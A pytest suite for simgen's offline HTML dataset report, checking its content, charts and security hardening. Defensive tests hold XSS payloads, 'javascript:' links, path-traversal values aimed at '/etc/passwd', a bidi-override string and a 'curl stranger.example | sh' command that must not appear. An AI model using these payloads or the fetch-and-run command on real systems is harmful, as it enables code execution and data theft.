import base64
import dataclasses
import hashlib
import json
import re
import shutil
import subprocess
from collections import Counter
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import cv2
import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from simgen.core.errors import OutputError
from simgen.core.sample import Reject, Sample
from simgen.core.taxonomy import TRANSITIONS
from simgen.dataset.layout import REPORT, committed, part_path
from simgen.dataset.report import page
from simgen.dataset.report.cards import line_percent, picture_uri, sample_card
from simgen.dataset.report.charts import Bar, bar_chart, histogram, number, ticks_between
from simgen.dataset.report.gather import ReportData, gather
from simgen.dataset.report.markup import Html, el
from simgen.dataset.report.page import page_html
from simgen.dataset.report.palette import instance_color, overlay, paint_instances
from simgen.dataset.report.write import write_report
from simgen.plan.plan import RESOLVED
from simgen.storage.files import write_file


class Elements(HTMLParser):
    """Every element of a page with its attributes, and all the text between them."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.text = ""
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.text += data

    def all(self, tag: str, **wanted: str) -> list[dict[str, str]]:
        return [a for t, a in self.found if t == tag and all(a.get(k) == v for k, v in wanted.items())]


def cards(text: str) -> list[dict[str, str]]:
    return [a for a in Elements(text).all("article") if "card" in a["class"].split()]


@pytest.fixture
def dataset(tmp_path: Path, make_dataset: Callable[..., Path]) -> Path:
    return make_dataset(tmp_path / "demo", n=12, holes=(5,))


@pytest.fixture
def facts(dataset: Path) -> ReportData:
    return gather(dataset)


def told(sample: Sample, **fields: Any) -> Sample:
    """The sample with other things in its record."""
    return dataclasses.replace(sample, record={**sample.record, **fields})


def test_the_report_lies_in_the_folder_of_the_data_set(dataset: Path) -> None:
    assert write_report(dataset) == dataset / REPORT
    assert (dataset / REPORT).read_text("utf-8").startswith("<!doctype html>")


def test_the_page_fetches_nothing(facts: ReportData) -> None:
    text = page_html(facts)
    elements = Elements(text)
    sources = [a[name] for tag, a in elements.found for name in ("src", "srcset", "poster", "data") if name in a]
    linked = [a["href"] for a in elements.all("link")]
    assert sources and all(source.startswith("data:") for source in [*sources, *linked])
    assert not elements.all("iframe") and not elements.all("object") and not elements.all("base")
    style = text[text.index("<style>") : text.index("</style>")]
    assert "url(" not in style and "@import" not in style
    script = text[text.rindex("<script>") :]
    assert not re.search(r"fetch\(|XMLHttpRequest|import\(|https?:", script)
    assert "default-src 'none'" in text


def test_hostile_words_stay_words(facts: ReportData) -> None:
    bad = """</script><script>alert("x")</script><img src=x onerror=alert(1)>"'&"""
    sample = facts.load(facts.accepted[0].key)
    body = {**sample.record["bodies"][0], "label": bad, "asset": bad, "license": bad}
    hostile = told(
        sample,
        instructions=dict.fromkeys(("superficial", "intermediate", "explicit"), bad),
        bodies=[body],
        law=bad,
        parameters_json=json.dumps({bad: bad}),
        events_json="[]",
        contacts_json="[]",
    )
    lost = dataclasses.replace(facts.lost[0], reason=bad, log=bad, command=bad, kind=bad)
    used = tuple(
        dataclasses.replace(u, credit=dataclasses.replace(u.credit, author=bad, url="javascript:alert(1)"))
        for u in facts.used
    )
    changed = dataclasses.replace(facts, name=bad, load=lambda key: hostile, lost=(lost,), used=used)
    elements = Elements(page_html(changed))
    assert len(elements.all("script")) == len(Elements(page_html(facts)).all("script")) == 1
    assert not any(name.startswith("on") for _, attributes in elements.found for name in attributes)
    assert not [a for a in elements.all("a") if a["href"].startswith("javascript")]
    assert bad in elements.text


def test_letters_that_turn_the_line_round_and_half_characters_end_with_their_word(dataset: Path) -> None:
    """A stranger's record may hold both; the page is still UTF-8, and names stand apart from what is beside them."""
    log = dataset / "quarantine"
    log.mkdir()
    mark = {"key": "nudge-000005", "scene": "nudge\ud800", "split": "train", "failure": "crash", "index": 5}
    mark |= {"reason": "\u202egone</textarea><script>", "detail": "", "log": "quarantine/logs/x.log", "reproduce": "x"}
    (log / "nudge-000005.json").write_text(json.dumps(mark))
    text = write_report(dataset).read_text("utf-8")
    assert "<script>" in text and len(Elements(text).all("script")) == 1
    assert "\u202egone&lt;/textarea&gt;" in text
    style = (Path(page.__file__).parent / "style.css").read_text("utf-8")
    assert "unicode-bidi: isolate" in style


@pytest.mark.parametrize("place", ["/etc/passwd", "../../secret.txt", "quarantine/logs/../../../secret.txt"])
def test_a_mark_of_a_stranger_shows_no_file_of_this_machine(dataset: Path, place: str) -> None:
    (dataset.parent.parent / "secret.txt").write_text("root:x:0:0 secret")
    (dataset.parent / "secret.txt").write_text("root:x:0:0 secret")
    logs = dataset / "quarantine" / "logs"
    logs.mkdir(parents=True)
    mark = {"key": "nudge-000005", "scene": "nudge", "split": "train", "failure": "crash", "index": 5}
    mark |= {"reason": "gone", "detail": "", "log": place, "reproduce": "x"}
    (logs.parent / "nudge-000005.json").write_text(json.dumps(mark))
    assert "root:x:0:0" not in write_report(dataset).read_text("utf-8")
    (logs / "nudge-000005.log").symlink_to("/etc/passwd")
    assert "root:x:0:0" not in write_report(dataset).read_text("utf-8")


@pytest.mark.parametrize("mark", [{}, {"key": 3}, {"key": "a", "scene": None}])
def test_a_mark_that_says_nothing_is_one_sentence(dataset: Path, mark: dict[str, Any]) -> None:
    (dataset / "quarantine").mkdir()
    (dataset / "quarantine" / "x.json").write_text(json.dumps(mark))
    with pytest.raises(OutputError, match=r"x\.json: is not the note of a quarantined sample"):
        gather(dataset)


@pytest.mark.parametrize(
    "fields",
    [
        {"events_json": "3"},
        {"events_json": '[{"kind": "push"}]'},
        {"contacts_json": '[{"a": 0}]'},
        {"contacts_json": "{}1"},
        {"parameters_json": "[1]"},
    ],
)
def test_a_record_whose_texts_hold_something_else_is_one_sentence(facts: ReportData, fields: dict[str, str]) -> None:
    sample = facts.load(facts.accepted[0].key)
    changed = dataclasses.replace(facts, load=lambda key: told(sample, **fields))
    with pytest.raises(OutputError, match="its record holds what simgen does not write") as caught:
        page_html(changed)
    assert "\n" not in str(caught.value)


def test_statistics_that_know_of_no_attempt_still_make_a_page(facts: ReportData) -> None:
    assert page_html(dataclasses.replace(facts, attempts={}))


def test_a_parquet_of_a_stranger_is_read_only_where_it_has_our_columns(dataset: Path) -> None:
    path = part_path(dataset / "train", 0, ".parquet")
    path.write_bytes(path.read_bytes()[:100])
    with pytest.raises(OutputError, match=r"00000\.parquet: cannot be read"):
        gather(dataset)
    pq.write_table(pa.table({"key": ["a"]}), path)
    with pytest.raises(OutputError, match="does not hold the columns that simgen writes"):
        gather(dataset)
    table = pq.read_table(part_path(dataset / "train", 1, ".parquet"))
    column = table.schema.get_field_index("actor_mass_kg")
    for value in (None, float("nan")):
        odd = pa.array([value] * len(table), pa.float64())
        pq.write_table(table.set_column(column, table.schema.field(column), odd), path)
        with pytest.raises(OutputError, match="the column actor_mass_kg lacks values"):
            gather(dataset)


def test_the_page_may_run_its_own_script_only(facts: ReportData) -> None:
    text = page_html(facts)
    script = text[text.rindex("<script>") + len("<script>") : text.rindex("</script>")]
    digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
    assert f"script-src 'sha256-{digest}'" in text


def test_every_accepted_sample_has_a_card_with_its_pictures(facts: ReportData) -> None:
    text = page_html(facts)
    accepted = [card for card in cards(text) if "accepted" in card["data-outcome"].split()]
    assert [card["id"] for card in accepted] == [row.key for row in facts.accepted]
    # And a pair of thumbnails for the one transition that they show.
    assert len(Elements(text).all("img")) == 5 * len(accepted) + 2
    assert all(image["alt"] for image in Elements(text).all("img"))


def test_the_coverage_counts_pairs_by_transition_and_names_what_is_missing(facts: ReportData) -> None:
    text = " ".join(Elements(page_html(facts)).text.split())
    assert f"1 of the {len(TRANSITIONS)} physical transitions" in text
    assert "Not in this data set: 45" in text
    both = [dataclasses.replace(row, types=(31, 21) if k else (31,)) for k, row in enumerate(facts.accepted)]
    found = Elements(page_html(dataclasses.replace(facts, accepted=tuple(both))))
    assert "light color change" in found.text and "2 of the 46" in " ".join(found.text.split())


def test_a_card_tells_the_three_tiers_and_every_figure(make_sample: Callable[..., Sample]) -> None:
    sample = make_sample(1, bodies=3)
    text = Elements(sample_card(sample, (), folder="demo")).text
    record = sample.record
    for tier in ("superficial", "intermediate", "explicit"):
        assert record["instructions"][tier] in text
    for gate in record["gates"]:
        assert gate["name"].replace("_", " ") in text and gate["limit"].replace("<=", "≤") in text
    for truth in record["truth"]:
        assert truth["name"].replace("_", " ") in text and truth["provenance"] in text
    for body in record["bodies"]:
        assert body["label"] in text and body["license"] in text
    assert "strength" in text and "simgen reproduce demo nudge-000001" in text


def test_samples_can_be_told_apart_by_scene_and_by_what_they_were_rejected_for(facts: ReportData) -> None:
    by_key = {card["id"]: card for card in cards(page_html(facts))}
    for row in facts.accepted:
        outcome = by_key[row.key]["data-outcome"].split()
        assert by_key[row.key]["data-scene"] == row.scene and by_key[row.key]["data-split"] == row.split
        assert ("gate:at_rest" in outcome) == bool(facts.rejects.get(row.key)) == ("later" in outcome)
    options = {a["value"] for a in Elements(page_html(facts)).all("option")}
    assert {"accepted", "first", "later", "quarantined", "gate:at_rest", "nudge", "nudge_hard"} <= options


def test_a_reason_of_several_words_can_be_chosen(facts: ReportData) -> None:
    row = facts.accepted[0]
    claim = Reject(gate="claim: actor toppled", reason="the actor stands")
    text = page_html(dataclasses.replace(facts, rejects={row.key: (claim,)}))
    (option,) = (a["value"] for a in Elements(text).all("option") if a["value"].startswith("gate:"))
    assert [card["id"] for card in cards(text) if option in card["data-outcome"].split()] == [row.key]


def test_a_quarantined_sample_is_shown_with_its_class_and_the_command(dataset: Path) -> None:
    (key,) = (lost.key for lost in gather(dataset).lost)
    (dataset / "quarantine" / "logs").mkdir(parents=True)
    (dataset / "quarantine" / "logs" / f"{key}.log").write_text("Segmentation fault")
    mark = {
        "key": key,
        "index": 5,
        "scene": "nudge",
        "split": "train",
        "failure": "crash",
        "reason": "its process died in each of 3 tries",
        "detail": "",
        "log": f"quarantine/logs/{key}.log",
        "reproduce": "curl stranger.example | sh",
    }
    write_file(dataset / "quarantine" / f"{key}.json", json.dumps(mark).encode())
    text = page_html(gather(dataset))
    (card,) = (card for card in cards(text) if "quarantined" in card["data-outcome"])
    assert card["id"] == key and "gate:at_rest" in card["data-outcome"].split()
    for said in ("crash", "its process died", "Segmentation fault", f"simgen reproduce {dataset} {key}"):
        assert said in Elements(text).text
    assert "curl" not in text, "the command of a mark may be a stranger's"


def test_an_unfinished_run_says_how_far_it_is(dataset: Path) -> None:
    first = committed(dataset / "train")[0]
    part_path(dataset / "train", first, "_stats.json").unlink()
    text = Elements(page_html(gather(dataset))).text
    assert "Unfinished: 8 of 12 samples so far" in text


def test_a_finished_run_says_so(facts: ReportData) -> None:
    assert "Complete: all 12 samples are accounted for" in Elements(page_html(facts)).text


def test_a_run_without_a_sample_yet_has_a_page(dataset: Path) -> None:
    for split in ("train", "test"):
        shutil.rmtree(dataset / split)
    text = Path(write_report(dataset)).read_text("utf-8")
    assert "Nothing has been made yet of 12 samples planned" in text
    assert not cards(text)


def test_a_folder_without_a_data_set_is_refused(tmp_path: Path) -> None:
    with pytest.raises(OutputError, match=RESOLVED):
        write_report(tmp_path)


def test_what_is_left_out_is_said_and_every_scene_is_in(facts: ReportData, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(page, "SHOWN", 4)
    text = page_html(facts)
    accepted = [card for card in cards(text) if "accepted" in card["data-outcome"].split()]
    assert Counter(card["data-scene"] for card in accepted) == {"nudge": 2, "nudge_hard": 2}
    assert "4 of 11 pairs" in Elements(text).text


def test_pictures_stop_where_the_page_is_full(facts: ReportData, monkeypatch: pytest.MonkeyPatch) -> None:
    one = len(sample_card(facts.load(facts.accepted[0].key), (), folder="demo"))
    monkeypatch.setattr(page, "PICTURE_BYTES", round(3.5 * one))
    assert 1 <= sum("accepted" in card["data-outcome"] for card in cards(page_html(facts))) <= 4


def test_the_same_files_give_the_same_page(dataset: Path) -> None:
    assert page_html(gather(dataset)) == page_html(gather(dataset))


def test_every_author_is_named(facts: ReportData) -> None:
    text = Elements(page_html(facts)).text
    for used in facts.used:
        assert used.credit.author in text and used.credit.license in text
    assert {used.credit.author for used in facts.used} == {"A. Potter", "B. Joiner", "C. Walker", "simgen"}


def test_charts_count_every_pair_once(facts: ReportData) -> None:
    chart = histogram([row.actor_mass_kg for row in facts.accepted], axis="kg", label="mass", log=True)
    counts = [int(n) for n in re.findall(r": (\d+) pairs", chart)]
    assert sum(counts) == len(facts.accepted) == 11


@pytest.mark.parametrize("log", [False, True])
@pytest.mark.parametrize("values", [[0.3], [0.3, 0.3, 0.3], [1e-3, 1.0, 1e3], [0.1, 0.2, 1.0], [2.0, 7.5, 49.99, 50.0]])
def test_a_histogram_holds_its_extremes(values: list[float], log: bool) -> None:
    chart = histogram(values, axis="m", label="sizes", log=log)
    assert sum(int(n) for n in re.findall(r": (\d+) pairs", chart)) == len(values)
    places = [(float(x), float(w)) for x, w in re.findall(r'part0" x="([-.\d]+)" y="[-.\d]+" width="([-.\d]+)"', chart)]
    assert places and all(x >= 0 and w > 0 and x + w <= 400 for x, w in places)


def test_a_bar_is_as_long_as_its_number() -> None:
    bars = [Bar(label="a", parts=(2.0,), note="2"), Bar(label="b", parts=(1.0, 3.0), note="4")]
    widths = [float(w) for w in re.findall(r'class="bar[^>]*? width="([.\d]+)"', bar_chart(bars, axis="n", label="x"))]
    assert widths[0] == pytest.approx(2 * widths[1], abs=0.02)
    assert widths[2] == pytest.approx(3 * widths[1], abs=0.02)


def test_ticks_are_round_and_reach_the_end() -> None:
    assert ticks_between(0.0, 37.0, 4) == [0, 10, 20, 30, 40]
    assert ticks_between(0.0, 2.0, 4, whole=True) == [0, 1, 2]
    assert ticks_between(0.0, 0.05, 5) == pytest.approx([0, 0.01, 0.02, 0.03, 0.04, 0.05])


@pytest.mark.parametrize(
    ("value", "said"),
    [(0.0, "0"), (12.0, "12"), (0.01234, "0.0123"), (-3.5, "−3.5"), (1234.5, "1\u202f234"), (2.5e-7, "2.5 × 10⁻⁷")],
)
def test_numbers_are_written_to_three_figures(value: float, said: str) -> None:
    assert number(value) == said


def test_what_is_not_markup_is_escaped() -> None:
    assert el("p", "a < b", el("b", '"'), title='"&') == '<p title="&quot;&amp;">a &lt; b<b>&quot;</b></p>'
    assert el("p", Html("<i>")) == "<p><i></p>"


def test_a_drawing_keeps_its_colours_to_the_bit() -> None:
    ids = np.arange(256, dtype=np.uint8).reshape(16, 16)
    uri = picture_uri(paint_instances(ids), (16, 16), lossless=True)
    data = np.frombuffer(base64.b64decode(uri.partition(",")[2]), np.uint8)
    read = cv2.cvtColor(cv2.imdecode(data, cv2.IMREAD_COLOR), cv2.COLOR_BGR2RGB)
    assert tuple(read[0, 5]) == instance_color(5) and tuple(read[15, 15]) == instance_color(255)


def test_bodies_with_near_ids_look_different() -> None:
    colors = np.array([instance_color(i) for i in range(1, 13)], np.float32)[None] / 255
    lab = cv2.cvtColor(colors, cv2.COLOR_RGB2Lab)[0]
    apart = np.linalg.norm(lab[:, None] - lab[None], axis=-1) + 1000 * np.eye(len(lab))
    assert apart.min() > 15


def test_the_line_stands_where_start_and_end_of_the_actor_are_both_whole(make_sample: Callable[..., Sample]) -> None:
    sample = make_sample(0)
    # The actor goes from columns 4-20 to 24-40 of 64: from 31 to 38 percent nothing of it is cut.
    assert 31 <= line_percent(sample) <= 38
    back = dataclasses.replace(sample, start_seg=sample.end_seg, end_seg=sample.start_seg)
    assert line_percent(back) == 96
    gone = dataclasses.replace(sample, end_seg=np.zeros_like(sample.end_seg))
    assert line_percent(gone) == 50
    in_its_place = dataclasses.replace(sample, end_seg=sample.start_seg)
    assert 17 <= line_percent(in_its_place) <= 19


def test_the_overlay_has_colour_only_where_something_changed() -> None:
    picture = np.full((4, 4, 3), (200, 30, 90), np.uint8)
    mask = np.zeros((4, 4), np.uint8)
    mask[0, 0] = 255
    shown = overlay(picture, mask).astype(int)
    assert np.ptp(shown[1:], axis=-1).max() == 0 and np.ptp(shown[0, 0]) > 60


@pytest.mark.skipif(shutil.which("chromium") is None, reason="needs chromium")
def test_a_browser_opens_the_sample_that_the_address_names(dataset: Path, tmp_path: Path) -> None:
    path, key = write_report(dataset), gather(dataset).accepted[2].key
    quiet = ("--disable-background-networking", "--disable-component-update", "--disable-sync", "--disable-quic")
    browser = ["chromium", "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", *quiet]
    browser.append(f"--user-data-dir={tmp_path / 'profile'}")
    dumped = subprocess.run(
        [*browser, "--dump-dom", f"{path.as_uri()}#{key}"], capture_output=True, text=True, timeout=120, check=True
    ).stdout
    elements = Elements(dumped)
    assert elements.found[0][1]["class"] == "js"
    assert "12 of 12 shown" in elements.text
    card = dumped[dumped.index(f'id="{key}"') :]
    assert '<details open="">' in card[: card.index("</article>")]
    assert len([a for a in elements.all("details") if "open" in a]) == 1
